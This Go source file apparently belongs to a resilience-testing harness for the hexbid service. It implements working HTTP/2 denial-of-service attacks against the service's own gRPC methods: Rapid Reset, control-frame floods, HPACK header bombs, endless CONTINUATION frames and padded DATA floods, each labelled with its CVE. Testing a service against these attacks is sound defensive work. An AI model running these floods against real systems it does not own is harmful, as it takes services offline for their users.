package main

import (
	"context"
	"strings"
	"sync/atomic"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	pb "github.com/hexbid/hexbid/proto/hexbid/v1"
)

const floodConnections = 8

// rapidReset opens calls and cancels them at once, with and without their message (CVE-2023-44487).
func rapidReset(ctx context.Context, r *round) error {
	return r.onWires(ctx, floodConnections, func(ctx context.Context, w *wire) error {
		body := w.search()
		for i := 0; ctx.Err() == nil; i++ {
			stream, err := w.open([]string{pb.SearchService_SearchNearby_FullMethodName,
				pb.CampaignService_Import_FullMethodName, "/no.such/Method"}[i%3])
			if err == nil && i%2 == 0 {
				err = w.data(stream, body, true)
			}
			if err == nil {
				err = w.reset(stream)
			}
			if err != nil {
				return err
			}
			r.tally.calls.Add(1)
		}
		return nil
	})
}

// controlFrames floods the service with frames that belong to no call (CVE-2019-9512, -9515, -9518).
func controlFrames(ctx context.Context, r *round) error {
	writes := []func(*http2.Framer, int) error{
		func(f *http2.Framer, i int) error { return f.WritePing(false, [8]byte{byte(i), byte(i >> 8)}) },
		func(f *http2.Framer, i int) error {
			return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(i) & 0xffff})
		},
		func(f *http2.Framer, i int) error { return f.WriteWindowUpdate(0, 1) },
		func(f *http2.Framer, i int) error {
			return f.WritePriority(uint32(i)|1, http2.PriorityParam{Weight: 1})
		},
		func(f *http2.Framer, i int) error { return f.WriteRawFrame(0xbe, 0xff, uint32(i), []byte("unknown")) },
		func(f *http2.Framer, i int) error { return f.WriteRSTStream(uint32(2*i+1), http2.ErrCodeCancel) },
		func(f *http2.Framer, i int) error { return f.WriteSettingsAck() },
	}
	return r.onWires(ctx, len(writes), eachOf(func(ctx context.Context, w *wire, kind int) error {
		for i := 0; ctx.Err() == nil; i++ {
			if err := w.do(func(f *http2.Framer) error { return writes[kind%len(writes)](f, i) }); err != nil {
				return err
			}
			r.tally.calls.Add(1)
		}
		return nil
	}))
}

// headerBombs sends headers that are small on the wire and large in memory, headers that never end, and too many
// headers (CVE-2016-6581, CVE-2023-45288).
func headerBombs(ctx context.Context, r *round) error {
	kinds := []func(context.Context, *wire, *round) error{compressedHeaders, endlessHeaders, manyHeaders, endlessData}
	return r.onWires(ctx, 2*len(kinds), eachOf(func(ctx context.Context, w *wire, kind int) error {
		for ctx.Err() == nil {
			if err := kinds[kind%len(kinds)](ctx, w, r); err != nil {
				return err
			}
		}
		return nil
	}))
}

// compressedHeaders refers to one large header of the table over and over.
func compressedHeaders(_ context.Context, w *wire, r *round) error {
	bomb := []hpack.HeaderField{}
	large := strings.Repeat("x", 3000)
	for range 4000 {
		bomb = append(bomb, hpack.HeaderField{Name: "bomb", Value: large})
	}
	_, err := w.open(pb.SearchService_SearchNearby_FullMethodName, bomb...)
	r.tally.calls.Add(1)
	return err
}

// endlessHeaders sends CONTINUATION frames and never END_HEADERS.
func endlessHeaders(ctx context.Context, w *wire, r *round) error {
	return w.do(func(f *http2.Framer) error {
		stream := w.stream
		w.stream += 2
		fragment := w.headers(pb.SearchService_SearchNearby_FullMethodName, nil)
		if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: fragment}); err != nil {
			return err
		}
		for i := 0; i < 10_000 && ctx.Err() == nil; i++ {
			fragment = w.headersOnly(hpack.HeaderField{Name: "continued", Value: strings.Repeat("y", 1000), Sensitive: true})
			if err := f.WriteContinuation(stream, false, fragment); err != nil {
				return err
			}
			r.tally.calls.Add(1)
		}
		return nil
	})
}

func (w *wire) headersOnly(fields ...hpack.HeaderField) []byte {
	w.block.Reset()
	for _, f := range fields {
		_ = w.encoder.WriteField(f) // cannot fail, because it writes into memory
	}
	return w.block.Bytes()
}

// manyHeaders sends thousands of small headers.
func manyHeaders(_ context.Context, w *wire, r *round) error {
	var many []hpack.HeaderField
	for i := range 300 {
		many = append(many, hpack.HeaderField{Name: "h" + string(rune('a'+i%26)), Value: "v"})
	}
	stream, err := w.open(pb.SearchService_SearchNearby_FullMethodName, many...)
	if err == nil {
		err = w.data(stream, w.search(), true)
	}
	r.tally.calls.Add(1)
	return err
}

// endlessData sends empty and padded DATA frames.
func endlessData(ctx context.Context, w *wire, r *round) error {
	stream, err := w.open(pb.CampaignService_Import_FullMethodName)
	for i := 0; err == nil && i < 2000 && ctx.Err() == nil; i++ {
		err = w.do(func(f *http2.Framer) error { return f.WriteDataPadded(stream, false, nil, make([]byte, i%2*255)) })
		r.tally.calls.Add(1)
	}
	return err
}

// eachOf numbers the connections of an attack, so that an attack of several kinds can give each kind connections of its
// own.
func eachOf(attack func(ctx context.Context, w *wire, kind int) error) func(context.Context, *wire) error {
	var n atomic.Int64
	return func(ctx context.Context, w *wire) error { return attack(ctx, w, int(n.Add(1)-1)) }
}
